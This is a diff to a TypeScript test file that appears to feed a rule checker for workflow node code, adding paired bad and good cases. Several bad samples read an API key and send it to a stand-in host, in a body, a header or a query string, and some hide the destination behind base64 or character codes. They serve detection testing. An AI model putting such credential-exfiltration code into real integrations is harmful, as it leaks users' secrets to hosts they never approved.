@@ -12,6 +12,17 @@ const tolerant = (body: string) =>
 const get =
   "const id = this.getNodeParameter('orderId', i);\nconst order = await request({ url: 'https://api.acme.example/orders/' + id });";
 const push = 'returnData.push({ json: order, pairedItem: { item: i } });';
+/** Gets an order, and sends something else. @param body JavaScript with `apiKey` */
+const sending = (body: string, to = "'https://collect.metrics.example/v1'", more = '') =>
+  tolerant(
+    `${get}\n${push.replace(
+      'returnData',
+      `const { apiKey } = await this.getCredentials('acmeApi');
+    await this.helpers.httpRequest({ method: 'POST', url: ${to}, body: ${body}, ${more} });\nreturnData`,
+    )}`,
+  );
+/** Nothing names the host of it. */
+export const hiddenUrl = "Buffer.from('aHR0cHM6Ly9hcGkuenF3ZXJ0eS5leGFtcGxl', 'base64').toString()";
 const good: GivenNode = { execute: tolerant(`${get}\n${push}`) };
 export const text = (name: string, more: object = {}) => ({
   displayName: name,
@@ -107,6 +118,12 @@ export const behaviourCases: readonly RuleCase<GivenNode>[] = [
     },
   },
   {
+    code: 'behaviour-values-of-other-item',
+    case: 'all values of the first item, and what was answered to them',
+    bad: { execute: tolerant(`${get.replace("'orderId', i", "'orderId', 0")}\n${push}`) },
+    good,
+  },
+  {
     code: 'behaviour-wrong-pairing',
     case: 'all outputs from the first item',
     bad: { execute: tolerant(`${get}\nreturnData.push({ json: order, pairedItem: { item: 0 } });`) },
@@ -157,6 +174,50 @@ export const behaviourCases: readonly RuleCase<GivenNode>[] = [
           returnData.push({ json: { error: 'failed' }, pairedItem: { item: i } });
         }`),
     },
+  },
+  {
+    code: 'behaviour-secret-sent-elsewhere',
+    case: 'the key in a message to another service',
+    bad: { execute: sending('{ apiKey }') },
+    good: { execute: sending('{ isSet: Boolean(apiKey) }') },
+  },
+  {
+    code: 'behaviour-secret-sent-elsewhere',
+    case: 'the key in a header to a host that nothing names',
+    bad: { execute: sending('{}', hiddenUrl, 'headers: { authorization: apiKey }') },
+    // Services have hosts of several names, and check the key at each.
+    good: { execute: sending('{}', "'https://files.storage.example/v1'", 'headers: { authorization: apiKey }') },
+  },
+  {
+    code: 'behaviour-secret-sent-elsewhere',
+    case: 'the key in a query',
+    bad: { execute: sending('{}', "'https://collect.metrics.example/?key=' + apiKey") },
+    // A host that exchanges it for a token: the API never gets it.
+    good: {
+      execute: tolerant(`const { apiKey } = await this.getCredentials('acmeApi');
+        const { token } = await this.helpers.httpRequest({ method: 'POST', url: 'https://sts.identity.example/token', body: { apiKey } });
+        const id = this.getNodeParameter('orderId', i);
+        const order = await this.helpers.httpRequest({ method: 'GET', url: 'https://api.acme.example/orders/' + id, headers: { token } });
+        ${push}`),
+    },
+  },
+  {
+    code: 'behaviour-unknown-host',
+    case: 'a host that is decoded',
+    bad: { execute: sending('{}', hiddenUrl) },
+    good: { execute: sending('{}', "['https://eu', 'partner', 'example'].join('.')") },
+  },
+  {
+    code: 'behaviour-unknown-host',
+    case: 'a host that is computed',
+    bad: { execute: sending('{}', "'https://' + String.fromCharCode(113, 120, 122, 106) + '.example'") },
+    good: { execute: sending('{}', "'https://' + this.getNodeParameter('orderId', i) + '.example'") },
+  },
+  {
+    code: 'behaviour-unknown-host',
+    case: 'a host that an answer does not give',
+    bad: { execute: sending('{}', `${hiddenUrl} + '/' + order.id`) },
+    good: { execute: sending('{}', 'order.uploadUrl') },
   },
   {
     code: 'behaviour-credential-unused',
